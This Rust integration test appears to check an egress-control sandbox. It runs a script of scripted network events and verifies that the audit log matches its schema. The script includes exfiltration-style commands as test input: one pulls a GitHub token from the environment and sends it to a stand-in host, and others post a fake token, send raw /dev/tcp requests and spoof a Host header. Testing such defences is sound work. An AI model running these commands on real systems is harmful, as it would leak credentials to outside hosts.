//! What real runs write is what the published schema says, line by line.

use std::collections::BTreeSet;

use outgate_harness::audit::{records, text};
use outgate_harness::origin::Origin;
use outgate_harness::{Identity, Sandbox, lab_tests};

/// What is allowed, with a quota that is soon spent.
const POLICY: &str = "\
    [[allow]]\nrule = \"http://spent.example:8099\"\nbudget = \"4K\"\n\
    [[allow]]\nrule = \"http://open.example:8099\"\n\
    [[allow]]\nrule = \"tls://closed.example:8099\"\n";

/// Makes the main events, one by one.
const EVENTS: &str = r#"
curl -sS http://open.example:8099/a?token=secret
curl -sS http://denied.example:8099/b
curl -sS -X DELETE http://192.0.2.7/c
curl -skS --max-time 5 https://closed.example:8099/
curl -skS --max-time 5 https://refused.example:8099/
for n in 1 2 3 4 5 6 7 8 9; do head -c 500 /dev/zero | tr '\0' a | curl -sS --data-binary @- http://spent.example:8099/$n; done
printf 'k=ghp_%s' 0123456789abcdefghijABCDEFGHIJ2tcQKc | curl -sS --data-binary @- http://open.example:8099/d
C=$(env | grep -o 'ghp_[A-Za-z0-9]*' | head -n 1); curl -sS -H "x: $C" http://open.example:8099/e
curl -sS -H 'Host: other.example' http://open.example:8099/f
printf 'GET /\1 HTTP/1.1\r\n\r\n' > /dev/tcp/open.example/8099
curl -sS --unix-socket /run/none.sock http://x/
mkdir -p .vscode; echo x > .envrc
true
"#;

lab_tests! {
    fn every_line_of_a_real_run_is_as_the_schema_says(lab) {
        let origin = Origin::start(8099);
        for identity in Identity::all() {
            let file = lab.folder("records", identity).join("schema.jsonl");
            let policy = lab.folder("given", identity).join("schema.toml");
            std::fs::write(&policy, POLICY).expect("a policy");
            let mut sandbox = Sandbox::new(lab, identity)
                .option("-p", &policy.to_string_lossy())
                .option("--audit", &file.to_string_lossy());
            for host in ["open", "spent", "closed", "refused", "denied"] {
                sandbox = sandbox.pin(&format!("{host}.example:8099=127.0.0.1:8099"));
            }
            let script = ["bash", "-c", EVENTS].map(str::to_owned);
            let outcome = sandbox.run(&script);
            // Each is held against the schema where it is read.
            let records = records(&file);
            let of = |member: &str| -> BTreeSet<&str> {
                records.iter().map(|record| text(record, member)).collect()
            };
            let kinds = of("kind");
            for kind in ["start", "finish", "connect", "request", "tunnel", "flow", "finding", "canary", "budget"] {
                assert!(kinds.contains(kind), "{kind}: {kinds:?} {outcome}");
            }
            let reasons = of("reason");
            for reason in ["no-rule", "credential", "canary", "budget", "authority", "malformed"] {
                assert!(reasons.contains(reason), "{reason}: {reasons:?} {outcome}");
            }
            assert_eq!(of("verdict"), BTreeSet::from(["allow", "deny", "note"]));
        }
        assert!(origin.connections() > 0, "some of it arrived");
    }
}
